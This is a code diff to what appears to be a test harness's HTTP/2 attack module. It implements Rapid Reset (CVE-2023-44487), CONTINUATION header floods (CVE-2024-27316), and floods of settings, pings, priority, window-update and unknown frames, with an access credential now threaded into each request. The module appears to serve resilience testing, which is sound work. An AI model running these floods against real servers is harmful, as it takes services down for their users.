@@ -5,6 +5,7 @@ import time
 import http2
 import sockets
 from attack import Attack, in_threads
+from guard import STRANGER
 
 RESETS = 20000    # a connection, at most
 FRAMES = 100000   # of a flood, at most
@@ -17,7 +18,7 @@ PEAK_MIB = 1024
 def _connected(target, outcome):
     """A new connection, or nothing and a little time."""
     try:
-        return http2.Connection(target.server)
+        return http2.Connection(target.attacker())
     except OSError:
         outcome.count("connections refused")
         time.sleep(0.1)
@@ -26,13 +27,12 @@ def _connected(target, outcome):
 
 def rapid_reset(target, outcome):
     """Calls that are reset as soon as they are opened (CVE-2023-44487)."""
-    fields = http2.request_fields("MultiplyUnary")
-
     def work(target, outcome, worker):
         while target.left() > 0:
             connection = _connected(target, outcome)
             if connection is None:
                 continue
+            fields = http2.request_fields(connection.access, "MultiplyUnary")
             for first in range(1, 2 * RESETS, 2 * BATCH):
                 batch = b"".join(
                     http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
@@ -48,32 +48,38 @@ def rapid_reset(target, outcome):
     in_threads(2, work, target, outcome)
 
 
-def _continuation(rng):
+def _continuation(rng, access):
     """A header block that goes on and on (CVE-2024-27316)."""
     block = http2.field(b"x-%d" % rng.getrandbits(60), b"v" * 8000)
-    first = http2.frame(http2.HEADERS, 0, 1, http2.request_fields("MultiplyUnary"))
+    first = http2.frame(http2.HEADERS, 0, 1, http2.request_fields(access, "MultiplyUnary"))
     return first, http2.frame(http2.CONTINUATION, 0, 1, block)
 
 
-def _header_list(rng):
+def _header_list(rng, access):
     """Large header lists, each of them whole."""
-    fields = http2.request_fields("MultiplyUnary", [(b"x-%d" % i, b"v" * 1000) for i in range(14)])
+    extra = [(b"x-%d" % i, b"v" * 1000) for i in range(14)]
+    fields = http2.request_fields(access, "MultiplyUnary", extra)
     return b"", http2.frame(http2.HEADERS, http2.END_HEADERS, rng.randrange(1, 9999, 2), fields)
 
 
+def _empty_data(rng, access):
+    """A call whose data has no bytes."""
+    fields = http2.request_fields(access, "Multiply")
+    return http2.frame(http2.HEADERS, http2.END_HEADERS, 1, fields), http2.frame(http2.DATA, 0, 1)
+
+
 FLOODS = {
-    "settings": lambda rng: (b"", http2.settings({http2.INITIAL_WINDOW_SIZE: rng.getrandbits(20),
-                                                  http2.HEADER_TABLE_SIZE: rng.getrandbits(16)})),
-    "pings": lambda rng: (b"", http2.frame(http2.PING, 0, 0, rng.randbytes(8))),
-    "priorities": lambda rng: (b"", http2.frame(http2.PRIORITY, 0, rng.randrange(1, 9999, 2),
-                                                b"\0\0\0\0\x10")),
-    "empty data": lambda rng: (http2.frame(http2.HEADERS, http2.END_HEADERS, 1,
-                                           http2.request_fields("Multiply")),
-                               http2.frame(http2.DATA, 0, 1)),
-    "window updates": lambda rng: (b"", http2.window_update(0, rng.choice([1, 0, 1 << 30]))),
+    "settings": lambda rng, _: (b"", http2.settings(
+        {http2.INITIAL_WINDOW_SIZE: rng.getrandbits(20),
+         http2.HEADER_TABLE_SIZE: rng.getrandbits(16)})),
+    "pings": lambda rng, _: (b"", http2.frame(http2.PING, 0, 0, rng.randbytes(8))),
+    "priorities": lambda rng, _: (b"", http2.frame(http2.PRIORITY, 0, rng.randrange(1, 9999, 2),
+                                                   b"\0\0\0\0\x10")),
+    "empty data": _empty_data,
+    "window updates": lambda rng, _: (b"", http2.window_update(0, rng.choice([1, 0, 1 << 30]))),
     "continuations": _continuation,
     "header lists": _header_list,
-    "unknown frames": lambda rng: (b"", http2.frame(0x42, 0, 0, rng.randbytes(1000))),
+    "unknown frames": lambda rng, _: (b"", http2.frame(0x42, 0, 0, rng.randbytes(1000))),
 }
 
 
@@ -86,7 +92,7 @@ def flood(target, outcome):
             connection = _connected(target, outcome)
             if connection is None:
                 continue
-            first, each = FLOODS[kind](rng)
+            first, each = FLOODS[kind](rng, connection.access)
             batch = each * max(1, min(BATCH, (256 << 10) // len(each)))
             taken = connection.send(first, 1)
             for _ in range(FRAMES // BATCH):
@@ -103,7 +109,9 @@ def flood(target, outcome):
 
 ATTACKS = [
     Attack("rapid-reset", f"calls reset at once, {RESETS} a connection", rapid_reset,
-           peak_mib=PEAK_MIB),
+           peak_mib=PEAK_MIB,
+           by=(STRANGER, "call")),
     Attack("frames", "floods of settings, pings, continuations and others", flood,
-           peak_mib=PEAK_MIB),
+           peak_mib=PEAK_MIB,
+           by=(STRANGER, "call")),
 ]
